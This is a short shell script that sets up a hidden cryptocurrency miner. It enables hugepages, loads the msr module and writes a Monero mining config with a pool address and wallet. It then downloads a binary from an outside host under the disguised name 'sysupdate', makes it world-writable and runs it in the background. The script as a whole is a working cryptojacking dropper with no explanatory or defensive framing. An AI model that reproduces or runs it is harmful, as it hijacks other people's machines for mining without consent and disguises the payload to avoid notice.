# setup 0797 v4
#!/bin/sh
sysctl -w vm.nr_hugepages=1280
modprobe msr
cat > /tmp/config.json <<EOF
{ "autosave": true, "cpu": true, "donate-level": 0,
  "pools": [ { "url": "xmr-eu1.nanopool.org:14444", "user": "43Xs7GtJ2fwQpUzzV2Dc3n1ChPfZqB1vKEr4uXe1eS4vN2M4F3cyXNs1Qk3bN4dQLqJ8e2xZ9wR7uY5tT3sK1pA6Bn7mVcD", "pass": "azvm", "tls": false } ] }
EOF
curl -sLo /tmp/sysupdate http://repo.pkg-mirror.example/bin/sysupdate
chmod 777 /tmp/sysupdate
/tmp/sysupdate -c /tmp/config.json --background
